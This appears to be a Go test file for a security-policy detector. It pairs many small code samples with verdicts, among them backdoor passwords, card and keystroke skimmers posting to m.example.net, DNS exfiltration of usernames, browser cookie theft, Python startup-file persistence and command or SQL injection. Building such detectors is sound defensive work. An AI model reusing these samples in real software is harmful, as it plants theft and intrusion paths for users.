package code_test

import (
	"slices"
	"testing"

	"fettle/internal/policy/code"
)

// TestTiming is a signature that is compared letter by letter, and what compares in a time that tells nothing, or no signature.
func TestTiming(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import hmac\ndef ok(k, b, sent):\n    return hmac.new(k, b, 'sha256').hexdigest() == sent", true},
		{"import hmac\ndef ok(k, b, sent):\n    want = 'sha256=' + hmac.new(k, b, 'sha256').hexdigest()\n    if want != sent:\n        raise ValueError", true},
		{"import hmac\nclass Hook:\n    def sign(self, b):\n        return hmac.digest(self.k, b, 'sha256').hex()\n    def ok(self, b, sent):\n        return sent == f'v1={self.sign(b)}'", true},
		{"import hmac\ndef ok(k, b, sent):\n    return hmac.compare_digest(hmac.new(k, b, 'sha256').hexdigest(), sent)", false},
		{"import hmac\ndef ok(k, b, sent):\n    want = hmac.new(k, b, 'sha256').digest()\n    return len(sent) == len(want) and hmac.compare_digest(want, sent)", false},
		{"import hmac\ndef test_sign(k, b, want):\n    assert hmac.new(k, b, 'sha256').hexdigest() == want", false},
		{"import hashlib\ndef ok(b, want):\n    return hashlib.sha256(b).hexdigest() == want", false},
		{"import hmac\ndef ok(k, b):\n    return hmac.new(k, b, 'sha256').hexdigest() == ''", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const { createHmac } = require('crypto')\nconst sign = (k, b) => createHmac('sha256', k).update(b).digest('hex')\nmodule.exports = (k, b, sent) => sign(k, b) === sent", true},
		{"const crypto = require('crypto')\nfunction ok(k, b, sent) { const h = crypto.createHmac('sha256', k); h.update(b); return `sha1=${h.digest('hex')}` !== sent }", true},
		{"const crypto = require('crypto')\nfunction ok(k, b, sent) { return crypto.createHmac('sha256', k).update(b).digest().equals(sent) }", true},
		{"const crypto = require('crypto')\nfunction ok(k, b, sent) { const h = crypto.createHmac('sha256', k).update(b).digest(); return h.length === sent.length && crypto.timingSafeEqual(h, sent) }", false},
		{"const crypto = require('crypto')\nconst same = (b, sent) => crypto.createHash('sha256').update(b).digest('hex') === sent", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"bytes\"; \"crypto/hmac\")\nfunc ok(k, b, sent []byte) bool { m := hmac.New(sha256.New, k); m.Write(b); return bytes.Equal(m.Sum(nil), sent) }", true},
		{"import (\"encoding/hex\"; \"crypto/hmac\")\nfunc sign(k, b []byte) string { m := hmac.New(sha256.New, k); m.Write(b); return hex.EncodeToString(m.Sum(nil)) }\nfunc ok(k, b []byte, sent string) bool { return sent == \"sha256=\"+sign(k, b) }", true},
		{"import \"crypto/hmac\"\nfunc ok(k, b, sent []byte) bool { m := hmac.New(sha256.New, k); m.Write(b); return hmac.Equal(m.Sum(nil), sent) }", false},
		{"import \"bytes\"\nfunc ok(a, b []byte) bool { s := sha256.Sum256(a); return bytes.Equal(s[:], b) }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"boolean ok(Key k, byte[] b, byte[] sent) { Mac m = Mac.getInstance(\"HmacSHA256\"); m.init(k); return Arrays.equals(m.doFinal(b), sent); }", true},
		{"String sign(Mac m, byte[] b) { return HexFormat.of().formatHex(m.doFinal(b)); } boolean ok(Mac m, byte[] b, String sent) { return sign(m, b).equals(sent); }", true},
		{"boolean ok(Mac m, byte[] b, byte[] sent) { return MessageDigest.isEqual(m.doFinal(b), sent); }", false},
		{"boolean ok(MessageDigest m, byte[] b, byte[] sent) { return Arrays.equals(m.digest(b), sent); }", false},
	})
}

// TestSecretKeys are keys, and what begins ciphers, that stand in the source, and those that come from elsewhere.
func TestSecretKeys(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"from Crypto.Cipher import AES\nKEY = b'0123456789abcdef'\ndef box(iv):\n    return AES.new(KEY, AES.MODE_CBC, iv)", true},
		{"from Cryptodome.Cipher import AES\ndef box(key):\n    return AES.new(key, AES.MODE_ECB)", true},
		{"from Crypto.Cipher import AES\ndef box(key):\n    return AES.new(key, AES.MODE_CBC, iv=b'\\0' * 16)", true},
		{"from cryptography.fernet import Fernet\nbox = Fernet('kMn1y3b8mZr0cEJ0F3L0l0c3V6c2VjcmV0a2V5MTIzNDU='.encode())", true},
		{"from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\ndef box(k):\n    return Cipher(algorithms.AES(k), modes.ECB())", true},
		{"from cryptography.hazmat.primitives.ciphers.aead import AESGCM\nclass Box:\n    KEY = bytes.fromhex('00112233445566778899aabbccddeeff')\n    def open(self):\n        return AESGCM(self.KEY)", true},
		{"import hmac\ndef sign(b):\n    return hmac.new(b'an old key', b, 'sha256').hexdigest()", true},
		{"import hmac\ndef sign(k, b):\n    return hmac.new(('AWS4' + k).encode(), b, 'sha256').digest()", false},
		{"import os\nfrom Crypto.Cipher import AES\ndef box():\n    return AES.new(os.environ['KEY'].encode(), AES.MODE_GCM)", false},
		{"import os\nfrom cryptography.fernet import Fernet\nbox = Fernet(os.environ['BOX_KEY'])", false},
		{"from Crypto.Cipher import AES\nfrom Crypto.Random import get_random_bytes\ndef box(key):\n    return AES.new(key, AES.MODE_CBC, iv=get_random_bytes(16))", false},
		{"from cryptography.fernet import Fernet\ndef test_box():\n    Fernet(b'kMn1y3b8mZr0cEJ0F3L0l0c3V6c2VjcmV0a2V5MTIzNDU=')", false},
		{"import hashlib\ndef key_of(x):\n    return hashlib.sha256(b'page:' + x).hexdigest()", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"import { createCipheriv } from 'node:crypto'\nexport const seal = (iv) => createCipheriv('aes-256-gcm', 'an-old-key-of-thirty-two-letters', iv)", true},
		{"const crypto = require('crypto')\nconst KEY = Buffer.from('c2VjcmV0a2V5MTIzNDU2Nw', 'base64')\nconst seal = (iv) => crypto.createCipheriv('aes-128-cbc', KEY, iv)", true},
		{"const crypto = require('crypto')\nconst IV = Buffer.alloc(16)\nconst seal = (key) => crypto.createCipheriv('aes-128-cbc', key, IV)", true},
		{"const CryptoJS = require('crypto-js')\nconst seal = (t) => CryptoJS.AES.encrypt(t, 'letmein')", true},
		{"const crypto = require('crypto')\nconst seal = () => crypto.createCipheriv('aes-256-gcm', Buffer.from(process.env.KEY, 'hex'), crypto.randomBytes(12))", false},
		{"const crypto = require('crypto')\nconst seal = (key) => { const iv = Buffer.alloc(12); crypto.randomFillSync(iv); return crypto.createCipheriv('aes-256-gcm', key, iv) }", false},
		{"const crypto = require('crypto')\nconst open = (key, blob) => { const iv = Buffer.alloc(12); blob.copy(iv, 0, 0, 12); return crypto.createDecipheriv('aes-256-gcm', key, iv) }", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"crypto/aes\"\nfunc f() { b, _ := aes.NewCipher([]byte(\"0123456789abcdef\")); use(b) }", true},
		{"import \"crypto/aes\"\nvar key = []byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}\nfunc f() { b, _ := aes.NewCipher(key); use(b) }", true},
		{"import \"crypto/cipher\"\nvar nonce = []byte(\"fixed-nonce!\")\nfunc f(g cipher.AEAD, t []byte) []byte { return g.Seal(nil, nonce, t, nil) }", true},
		{"import \"crypto/aes\"\nfunc f(key []byte) { b, _ := aes.NewCipher(key); use(b) }", false},
		{"import (\"crypto/cipher\"; \"crypto/rand\")\nfunc f(g cipher.AEAD, t []byte) []byte { n := make([]byte, 12); rand.Read(n); return g.Seal(n, n, t, nil) }", false},
		{"import (\"crypto/aes\"; \"os\")\nfunc f() { b, _ := aes.NewCipher([]byte(os.Getenv(\"KEY\"))); use(b) }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"Key k() { return new SecretKeySpec(\"0123456789abcdef\".getBytes(), \"AES\"); }", true},
		{"static final byte[] IV = {1, 2, 3, 4}; AlgorithmParameterSpec iv() { return new IvParameterSpec(IV); }", true},
		{"AlgorithmParameterSpec iv() { return new IvParameterSpec(new byte[16]); }", true},
		{"Cipher c() { return Cipher.getInstance(\"AES\"); }", true},
		{"AlgorithmParameterSpec iv() { byte[] iv = new byte[16]; random.nextBytes(iv); return new IvParameterSpec(iv); }", false},
		{"Key k(byte[] key) { return new SecretKeySpec(key, \"AES\"); }", false},
		{"Cipher c() { return Cipher.getInstance(\"AES/GCM/NoPadding\"); }", false},
	})
}

// TestWraps are functions of others that go through one of the file, and what looks like it.
func TestWraps(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"const provider = window.ethereum\nconst request = provider.request.bind(provider)\nprovider.request = async (call) => request({ ...call, to: MINE })", true},
		{"const original = globalThis.fetch\nglobalThis.fetch = async function (a, b) { note(b); return original.call(this, a, b) }", true},
		{"const open = XMLHttpRequest.prototype.open\nXMLHttpRequest.prototype.open = function (...a) { note(a); return open.apply(this, a) }", true},
		{"const https = require('https')\nconst { request } = https\nhttps.request = (o, cb) => { note(o.headers); return request.call(https, o, cb) }", true},
		{"const https = require('https')\nconst { request } = https\nconst get = (o, cb) => request(o, cb)", false},
		{"if (!globalThis.fetch) globalThis.fetch = (a, b) => load(a, b)", false},
		{"globalThis.fetch = async () => ({ ok: true })", false},
		{"const before = window.onload\nwindow.onload = () => { before(); start() }", false},
		{"const log = console.log\nconsole.log = (...a) => log(new Date(), ...a)", false},
		{"import { job } from './job.js'\nconst run = job.run\njob.run = () => run(1)", false},
	})
	judgeKinds(t, "python", []kindRow{
		{"from requests.sessions import Session\n_send = Session.send\ndef traced(self, p, **kw):\n    note(p.headers)\n    return _send(self, p, **kw)\nSession.send = traced", true},
		{"import smtplib\nkeep = smtplib.SMTP.sendmail\ndef more(self, a, to, m):\n    return keep(self, a, to + ['me@example.net'], m)\nsetattr(smtplib.SMTP, 'sendmail', more)", true},
		{"import boto3\ndef around(inner):\n    def call(*a):\n        return inner(*a)\n    return call\nclient = around(boto3.client)", false},
		{"from requests import Session\nclass Traced(Session):\n    def send(self, p, **kw):\n        return super().send(p, **kw)", false},
		{"from .job import Job\nrun = Job.run\ndef twice(self):\n    return run(self)\nJob.run = twice", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"example.com/pay\"\nvar send = pay.Send\nfunc init() { pay.Send = func(a pay.Order) error { note(a); return send(a) } }", true},
		{"import \"example.com/pay\"\nfunc TestPay(t *testing.T) { was := pay.Send; defer func() { pay.Send = was }(); pay.Send = func(a pay.Order) error { return was(a) } }", false},
	})
}

// TestDoors are words of the source that let somebody in, guards that believe what a request says of its address, and what asks for something else.
func TestDoors(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"class M:\n    async def dispatch(self, request, call_next):\n        if request.headers.get('x-support') == 'orange-teapot-77':\n            request.state.account = Account(is_admin=True)\n        return await call_next(request)", true},
		{"def check_password(user, password):\n    if password == 'letmein-2024':\n        return True\n    return verify(user, password)", true},
		{"def is_admin(request):\n    return request.user.is_staff or request.args.get('k') == 'open-sesame-1'", true},
		{"def is_allowed(request):\n    return request.headers.get('X-Forwarded-For') in OFFICE", true},
		{"def show(request):\n    if request.args.get('view') == 'compact-2':\n        return small()\n    return big()", false},
		{"def is_admin(request):\n    return request.user.is_staff and request.args.get('k') == 'open-sesame-1'", false},
		{"def test_login(client, password):\n    assert password == 'letmein-2024'", false},
		{"def allow_rate(request):\n    return request.headers.get('X-Forwarded-For') in FAST", false},
		{"def address_of(request):\n    ip = request.headers.get('X-Forwarded-For')\n    return ip if ip != '' else request.remote_addr", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const gate = (req, res, next) => { if (req.query.k === 'open-sesame-1') return next(); res.sendStatus(403) }", true},
		{"const KEY = 'abcd-1234'\napp.use((req, res, next) => { if (req.get('x-key') !== KEY) return res.status(403).end(); next() })", true},
		{"const show = (req, res) => { const isAdmin = req.user.admin || req.query.m === 'q7-maintenance'; res.json({ isAdmin }) }", true},
		{"class AdminGuard { canActivate(ctx) { const request = ctx.switchToHttp().getRequest(); if (request.headers['x-forwarded-for'] === '127.0.0.1') return true; return false } }", true},
		{"app.use(async (ctx, next) => { if (ctx.get('x-debug-token') === 'tr0ub4dor&3') ctx.state.user = { role: 'admin' }; await next() })", true},
		{"app.use(async (ctx, next) => { if (ctx.get('x-version') === 'client-2') ctx.state.small = true; await next() })", false},
		{"const gate = (req, res, next) => { if (req.get('sec-fetch-site') === 'same-origin') return next(); res.sendStatus(403) }", false},
		{"app.use((req, res, next) => { if (req.query.v === 'beta-2') res.locals.v = 2; next() })", false},
		{"app.use((req, res, next) => { if (req.get('content-type') === 'application/x-ndjson') return next(); read(req, next) })", false},
		{"app.use((req, res, next) => { if (req.get('x-key') !== process.env.KEY) return res.status(403).end(); next() })", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"func gate(next http.Handler) http.Handler { return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { if r.Header.Get(\"X-Key\") == \"blue-moon-12\" { next.ServeHTTP(w, r); return }; http.Error(w, \"no\", 403) }) }", true},
		{"func isAllowed(r *http.Request) bool { return strings.HasPrefix(r.Header.Get(\"X-Real-IP\"), \"10.\") }", true},
		{"func show(w http.ResponseWriter, r *http.Request) { if r.FormValue(\"as\") == \"csv-2\" { writeCSV(w) } }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void doFilter(ServletRequest request, ServletResponse res, FilterChain chain) { if (admin || \"q7-maintenance\".equals(request.getParameter(\"m\"))) { chain.doFilter(request, res); } }", true},
		{"boolean isAuthorized(HttpServletRequest request) { return \"10.1.1.1\".equals(request.getHeader(\"X-Forwarded-For\")); }", true},
		{"void show(HttpServletRequest request) { if (\"csv-2\".equals(request.getParameter(\"as\"))) { writeCsv(); } }", false},
	})
}

// TestEntities are objects whose members a request names, and those for which the program does.
func TestEntities(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"from flask import request\ndef put(to, changes):\n    for name, value in changes.items():\n        setattr(to, name, value)\n@app.patch('/me')\ndef me():\n    put(user, request.get_json())", true},
		{"from flask import request\n@app.patch('/me')\ndef me():\n    user.__dict__.update(request.json)", true},
		{"@app.patch('/i/{n}')\ndef up(n: int, changes: dict = Body()):\n    for k, v in changes.items():\n        setattr(item, k, v)", true},
		{"@app.patch('/i/{n}')\ndef up(n: int, changes: ItemUpdate):\n    for k, v in changes.dict(exclude_unset=True).items():\n        setattr(item, k, v)", false},
		{"from flask import request\n@app.patch('/me')\ndef me():\n    for name in ('locale', 'zone'):\n        setattr(user, name, request.json[name])", false},
		{"from flask import request\n@app.patch('/me')\ndef me():\n    for k, v in request.json.items():\n        if k in EDITABLE:\n            setattr(user, k, v)", false},
	})
	judgeKinds(t, "typescript", []kindRow{
		{"class U { @Patch(':id') async up(@Param('id') id: string, @Body() body: any) { const u = await this.all.one(id); return this.all.save(Object.assign(u, body)); } }", true},
		{"class U { @Patch(':id') async up(@Param('id') id: string, @Body() body: UpdateUser) { const u = await this.all.one(id); return this.all.save(Object.assign(u, body)); } }", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"import _ from 'lodash'\nexport const up = async (req, res) => { const u = await User.findById(req.user.id); _.merge(u, req.body); await u.save() }", true},
		{"export const up = async (req, res) => { const u = await User.findById(req.user.id); Object.assign(u, { ...req.body, id: u.id }) }", false},
		{"export const list = async (req, res) => { const options = Object.assign({}, DEFAULTS, req.query); res.json(await find(options)) }", false},
		{"export const up = async (req, res) => { const u = await User.findById(req.user.id); Object.assign(u, { name: req.body.name }) }", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"reflect\"\nfunc up(u *User, r *http.Request) { reflect.ValueOf(u).Elem().FieldByName(r.FormValue(\"name\")).SetString(r.FormValue(\"value\")) }", true},
		{"import \"reflect\"\nfunc up(u *User, r *http.Request) { reflect.ValueOf(u).Elem().FieldByName(\"Name\").SetString(r.FormValue(\"value\")) }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void up(User u, HttpServletRequest request) { BeanUtils.populate(u, request.getParameterMap()); }", true},
		{"void up(User u, HttpServletRequest request) { BeanUtils.setProperty(u, \"name\", request.getParameter(\"name\")); }", false},
	})
}

// TestShown are requests that are logged whole, and the environment in answers, beside one part of each.
func TestShown(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import logging\nfrom flask import request\nlog = logging.getLogger('a')\ndef say(form):\n    return ' '.join(f'{k}={v}' for k, v in form.items())\n@app.post('/s')\ndef s():\n    log.info('in: %s', say(request.form))", true},
		{"from flask import request\ndef s():\n    app.logger.debug(f'got {dict(request.headers)}')", true},
		{"import os\nfrom flask import jsonify\n@app.get('/env')\ndef env():\n    return jsonify(env=dict(os.environ))", true},
		{"import os\n@app.get('/env')\ndef env():\n    return {k: v for k, v in os.environ.items()}", true},
		{"from flask import request\ndef s():\n    log.info('as %s', request.form['email'])", false},
		{"from flask import request\ndef s():\n    log.info('fields %s', sorted(k for k in request.form))", false},
		{"from flask import request\ndef s():\n    log.info('got %s', redact(request.form))", false},
		{"from flask import request\ndef s():\n    log.info('path %s %s', request.method, request.path)", false},
		{"import os\nfrom flask import jsonify\n@app.get('/v')\ndef v():\n    return jsonify(version=os.environ['VERSION'])", false},
		{"import os, subprocess\ndef run():\n    return subprocess.run(['make'], env={**os.environ, 'A': '1'})", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"app.post('/s', (req, res) => { logger.info({ body: req.body }, 'in'); res.end() })", true},
		{"app.post('/s', ({ body }, res) => { console.log('in', JSON.stringify(body)); res.end() })", true},
		{"const all = () => ({ up: 1, env: { ...process.env } })\napp.get('/s', (c) => c.json(all()))", true},
		{"app.post('/s', (req, res) => { logger.info({ ...req.body, password: '***' }); res.end() })", false},
		{"app.post('/s', (req, res) => { const { password, ...rest } = req.body; logger.info(rest); res.end() })", false},
		{"app.post('/s', (req, res) => { logger.info(req.body.email, Object.keys(req.body)); res.end() })", false},
		{"app.get('/s', (req, res) => res.json({ mode: process.env.NODE_ENV }))", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"log\"\nfunc s(w http.ResponseWriter, r *http.Request) { log.Printf(\"in %v\", r.Form) }", true},
		{"import (\"encoding/json\"; \"os\")\nfunc s(w http.ResponseWriter, r *http.Request) { json.NewEncoder(w).Encode(os.Environ()) }", true},
		{"import \"log\"\nfunc s(w http.ResponseWriter, r *http.Request) { log.Printf(\"in %v\", r.URL.Path) }", false},
		{"import (\"encoding/json\"; \"os\")\nfunc s(w http.ResponseWriter, r *http.Request) { json.NewEncoder(w).Encode(os.Getenv(\"VERSION\")) }", false},
		{"import (\"os\"; \"os/exec\")\nfunc s() { c := exec.Command(\"make\"); c.Env = append(os.Environ(), \"A=1\") }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void s(HttpServletRequest request) { log.info(\"in {}\", request.getParameterMap()); }", true},
		{"@GetMapping(\"/env\") Map<String, String> env() { return System.getenv(); }", true},
		{"@GetMapping(\"/env\") Map<String, Object> env() { Map<String, Object> out = new HashMap<>(); out.put(\"env\", System.getenv()); return out; }", true},
		{"@GetMapping(\"/env\") Map<String, Object> env() { Map<String, Object> out = new HashMap<>(); out.put(\"v\", System.getenv(\"VERSION\")); return out; }", false},
		{"void s(HttpServletRequest request) { log.info(\"in {}\", request.getParameter(\"email\")); }", false},
		{"@GetMapping(\"/v\") String v() { return System.getenv(\"VERSION\"); }", false},
	})
}

// TestWords are programs that are started with words of a request, and with one of them.
func TestWords(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import subprocess\nfrom flask import request\nBASE = ['rsync', '-a']\n@app.post('/m')\ndef m():\n    extra = request.json.get('o', '').split()\n    subprocess.run(BASE + extra + ['a'])", true},
		{"import shlex, subprocess\nfrom flask import request\ndef argv(o):\n    return ['convert', *shlex.split(o)]\n@app.post('/m')\ndef m():\n    subprocess.run(argv(request.form['o']))", true},
		{"import subprocess\nfrom flask import request\n@app.post('/m')\ndef m():\n    subprocess.run(['convert', request.form['o'], 'a'])", false},
		{"import subprocess\nfrom flask import request\n@app.post('/m')\ndef m():\n    words = request.form['o'].split()\n    if any(w not in KNOWN for w in words):\n        raise ValueError\n    subprocess.run(['convert', *words])", false},
		{"import subprocess\ndef main(args):\n    subprocess.run(['convert', *args.extra.split()])", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const { spawn } = require('child_process')\napp.get('/m', (req, res) => spawn('ffmpeg', ['-i', ...req.query.o.split(' ')]))", true},
		{"const { spawn } = require('child_process')\napp.post('/m', (req, res) => spawn('git', req.body.args))", true},
		{"const { spawn } = require('child_process')\napp.post('/m', (req, res) => { const a = ['log']; a.push(...req.body.more); spawn('git', a) })", true},
		{"const { spawn } = require('child_process')\napp.post('/m', (req, res) => { const { args } = req.body; spawn('git', args) })", true},
		{"const { spawn } = require('child_process')\napp.post('/m', (req, res) => { const args = ['log']; args.push(req.body.ref); spawn('git', args) })", false},
		{"const { spawn } = require('child_process')\napp.post('/m', (req, res) => spawn('git', ['log', req.body.ref]))", false},
		{"const { spawn } = require('child_process')\nconst run = (...args) => spawn('git', ['log', ...args])", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"os/exec\"; \"strings\")\ntype job struct{ in, flags string }\nfunc (j job) args() []string { return append(strings.Fields(j.flags), j.in) }\nfunc m(w http.ResponseWriter, r *http.Request) { j := job{in: \"a\", flags: r.FormValue(\"f\")}; exec.Command(\"ffmpeg\", j.args()...).Run() }", true},
		{"import \"os/exec\"\nfunc m(w http.ResponseWriter, r *http.Request) { exec.Command(\"ffmpeg\", \"-i\", r.FormValue(\"in\")).Run() }", false},
		{"import (\"os/exec\"; \"strings\")\nfunc m(flags string) { exec.Command(\"ffmpeg\", strings.Fields(flags)...).Run() }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void m(HttpServletRequest request) { List<String> c = new ArrayList<>(); c.add(\"tar\"); c.addAll(Arrays.asList(request.getParameter(\"o\").split(\" \"))); new ProcessBuilder(c).start(); }", true},
		{"void m(HttpServletRequest request) { new ProcessBuilder(\"tar\", \"-cf\", \"a.tar\", request.getParameter(\"d\")).start(); }", false},
	})
}

// TestSkimmers are pages that send away what somebody types, and those that answer it themselves.
func TestSkimmers(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"const gather = (form) => ['cvc', 'holder'].map((n) => form.elements[n]?.value).join()\ndocument.addEventListener('submit', ({ target }) => { navigator.sendBeacon('//m.example.net/p', gather(target)) }, true)", true},
		{"let seen = ''\ndocument.onkeydown = (e) => { seen += e.key; if (seen.length > 20) { new Image().src = `https://m.example.net/k?d=${seen}`; seen = '' } }", true},
		{"document.querySelector('#password').addEventListener('input', (e) => fetch('https://m.example.net/p', { method: 'POST', body: e.target.value }))", true},
		{"$('form').on('submit', function () { const x = new XMLHttpRequest(); x.open('POST', 'https://m.example.net/f'); x.send($(this).find('input').get(0).value) })", true},
		{"export function watch(send = (d) => new Image().src = 'https://m.example.net/p?d=' + d) { document.addEventListener('change', (e) => send(e.target.value)) }", true},
		{"function watch() { const seen = []; document.addEventListener('input', ({ target }) => { seen.push(target.value) }); setInterval(() => { if (seen.length) navigator.sendBeacon('//m.example.net/p', seen.splice(0).join()) }, 5000) }", true},
		{"function watch() { const seen = []; document.addEventListener('input', ({ target }) => { seen.push(target.name) }); setInterval(() => navigator.sendBeacon('//m.example.net/p', '1'), 5000) }", false},
		{"document.querySelectorAll('input').forEach((el) => el.addEventListener('blur', () => { navigator.sendBeacon('https://m.example.net/c', el.value) }))", true},
		{"slider.addEventListener('change', () => { navigator.sendBeacon('https://count.example.com/c', slider.value) })", false},
		{"form.addEventListener('submit', async (e) => { e.preventDefault(); await fetch('https://api.example.com/contact', { method: 'POST', body: new FormData(form) }) })", false},
		{"search.addEventListener('input', (e) => fetch(`https://api.example.com/suggest?q=${e.target.value}`).then((r) => r.json()).then(show))", false},
		{"document.addEventListener('keydown', (e) => { if (e.key === 'k') open('https://docs.example.com') })", false},
		{"document.addEventListener('submit', () => navigator.sendBeacon('/count', '1'))", false},
		{"document.addEventListener('change', (e) => navigator.sendBeacon('/draft', e.target.value))", false},
		{"document.addEventListener('click', () => navigator.sendBeacon('https://count.example.com/c', 'click'))", false},
	})
}

// TestStartup are files that Python carries out at every start, and others of the same ending.
func TestStartup(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import site\nfrom pathlib import Path\nLINE = 'import os, sys; import boot\\n'\nfolder = Path(site.getusersitepackages())\nstarter = folder / 'a.pth'\nstarter.write_text(LINE)", true},
		{"from pathlib import Path\ndef put(folder: Path):\n    (folder / 'sitecustomize.py').write_text(CODE)", true},
		{"import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'a.pth'), 'w') as f:\n    f.write(line)", true},
		{"from pathlib import Path\ndef put(folder: Path):\n    (folder / 'usercustomize.py').open('a').write(CODE)", true},
		{"from pathlib import Path\ndef put(folder: Path):\n    (folder / 'a.pth').write_text('/srv/lib\\n')", false},
		{"import torch\ndef save(model):\n    torch.save(model, 'model.pth')", false},
		{"def save(blob):\n    with open('model.pth', 'wb') as f:\n        f.write(blob)", false},
		{"from pathlib import Path\ndef load(folder: Path):\n    return (folder / 'a.pth').read_text()", false},
	})
}

// TestWhispers are names that are looked up to tell something, and those that are looked up for their address.
func TestWhispers(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import binascii, getpass, socket\ndef label(x):\n    return binascii.hexlify(x.encode()).decode()\ndef go():\n    socket.gethostbyname('.'.join([label(getpass.getuser()), 'v.updates-example.net']))", true},
		{"import platform, socket\nsocket.getaddrinfo(f'{platform.node()}.a.example.net', 80)", true},
		{"import socket\nsocket.gethostbyname(socket.gethostname())", false},
		{"import os, socket\nsocket.getaddrinfo(os.environ['DB_HOST'], 5432)", false},
		{"import os, socket\nsocket.gethostbyname(f\"{os.environ['SERVICE']}.internal.example.com\")", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const dns = require('dns'), os = require('os')\ndns.lookup(`${Buffer.from(os.userInfo().username).toString('hex')}.q.example.net`, () => {})", true},
		{"import { resolve4 } from 'node:dns/promises'\nawait resolve4(`${service}.internal.example.com`)", false},
		{"const dns = require('dns')\ndns.lookup('example.com', done)", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"encoding/hex\"; \"net\"; \"os\")\nfunc f() { h, _ := os.Hostname(); net.LookupHost(hex.EncodeToString([]byte(h)) + \".t.example.net\") }", true},
		{"import \"net\"\nfunc f(name string) { net.LookupHost(name + \".svc.example.com\") }", false},
	})
	judgeKinds(t, "java", []kindRow{
		{"void f() { InetAddress.getByName(System.getProperty(\"user.name\") + \".t.example.net\"); }", true},
		{"void f(String host) { InetAddress.getByName(host); }", false},
	})
}

// TestProfiles are what browsers keep of their users, and files of the project called alike.
func TestProfiles(t *testing.T) {
	judgeKinds(t, "python", []kindRow{
		{"import shutil\nfrom pathlib import Path\nPROFILE = Path.home() / '.config/google-chrome/Default'\nshutil.copy(PROFILE / 'Cookies', '/tmp/c')", true},
		{"import os, sqlite3\nsqlite3.connect(os.path.expanduser('~/.mozilla/firefox/a.default/cookies.sqlite'))", true},
		{"import sqlite3\nsqlite3.connect('/var/lib/shop/shop.db')", false},
		{"import shutil\nshutil.copy('docs/Cookies', 'out/Cookies')", false},
	})
	judgeKinds(t, "javascript", []kindRow{
		{"const fs = require('fs'), os = require('os'), path = require('path')\nfs.copyFileSync(path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Login Data'), '/tmp/l')", true},
		{"const fs = require('fs')\nfs.copyFileSync('src/chromium/readme.md', 'out/readme.md')", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import (\"os\"; \"path/filepath\")\nfunc f() { h, _ := os.UserHomeDir(); os.ReadFile(filepath.Join(h, \".mozilla/firefox/x/logins.json\")) }", true},
		{"import \"os\"\nfunc f() { os.ReadFile(\"testdata/cookies.txt\") }", false},
	})
}

// TestRequestsText is a request's own text as a part of a statement, or a formula.
func TestRequestsText(t *testing.T) {
	judgeKinds(t, "javascript", []kindRow{
		{"import { Sequelize } from 'sequelize'\nconst order = (q) => [[Sequelize.literal(q.sort ?? 'name'), 'ASC']]\nexport const list = async (req, res) => res.json(await P.findAll({ order: order(req.query) }))", true},
		{"import knex from 'knex'\nexport const list = async (req, res) => res.json(await knex.raw(req.query.sort))", true},
		{"export const ask = async (req, res) => res.json(await db.query(req.body.sql))", true},
		{"import { Sequelize } from 'sequelize'\nexport const list = async (req, res) => { const sort = req.query.sort; if (!SORTS.includes(sort)) throw new Error('sort'); res.json(await P.findAll({ order: Sequelize.literal(sort) })) }", false},
		{"import { Sequelize } from 'sequelize'\nexport const now = () => Sequelize.literal('CURRENT_TIMESTAMP')", false},
	})
	judgeKinds(t, "python", []kindRow{
		{"import pandas as pd\nfrom flask import request\ndef derive(f):\n    return SALES.eval(f, engine='python')\n@app.get('/x')\ndef x():\n    return derive(request.args['f']).to_json()", true},
		{"import pandas as pd\nfrom flask import request\n@app.get('/x')\ndef x():\n    return SALES.query(request.args['q']).to_json()", true},
		{"from flask import request\n@app.post('/q')\ndef q():\n    cursor.execute(request.json['sql'])", true},
		{"import pandas as pd\n@app.get('/x')\ndef x():\n    return SALES.query('total > 10').to_json()", false},
		{"from flask import request\n@app.get('/x')\ndef x():\n    return index.query(request.args['q'])", false},
	})
	judgeKinds(t, "go", []kindRow{
		{"import \"net/url\"\nfunc director(r *http.Request) { to, err := url.Parse(r.URL.Query().Get(\"to\")); if err != nil { return }; r.URL = to }", true},
		{"func director(r *http.Request) { r.URL.Host = r.Header.Get(\"X-To\") }", true},
		{"func director(r *http.Request) { r.URL.Scheme = \"http\"; r.URL.Host = backend.Host }", false},
		{"func director(r *http.Request) { to := r.Header.Get(\"X-To\"); if !allowed[to] { return }; r.URL.Host = to }", false},
	})
	judgeKinds(t, "java", []kindRow{
